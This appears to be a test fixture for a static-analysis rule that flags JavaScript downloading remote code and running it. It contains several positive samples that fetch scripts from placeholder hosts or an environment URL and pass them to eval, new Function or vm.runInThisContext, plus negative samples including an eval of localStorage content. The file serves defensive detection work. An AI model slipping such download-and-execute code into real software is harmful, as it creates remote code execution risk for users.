const https = require('https');
const axios = require('axios');
const vm = require('vm');

https.get('https://cdn.example.net/p.js', (res) => {
  let body = '';
  res.on('data', (c) => { body += c; });
  // ruleid: js-download-execute
  res.on('end', () => eval(body));
});

fetch('https://cdn.example.net/q.js')
  .then((r) => r.text())
  // ruleid: js-download-execute
  .then((t) => new Function(t)());

// ruleid: js-download-execute
fetch('https://cdn.example.net/r.js').then((r) => r.text()).then(eval);

async function plugin() {
  const r = await fetch(process.env.PLUGIN_URL);
  const code = await r.text();
  // ruleid: js-download-execute
  vm.runInThisContext(code);
}

// ruleid: js-download-execute
axios.get('https://cdn.example.net/s.js').then((res) => eval(res.data));

async function settings() {
  const r = await fetch('https://api.example.com/settings');
  const cfg = await r.json();
  // ok: js-download-execute
  console.log(cfg, eval('1 + 1'));
}

fetch('https://api.example.com/items')
  .then((r) => r.json())
  // ok: js-download-execute
  .then((items) => items.map((i) => JSON.parse(i.raw)));

// ok: js-download-execute
eval(localStorage.getItem('snippet'));

module.exports = { plugin, settings };
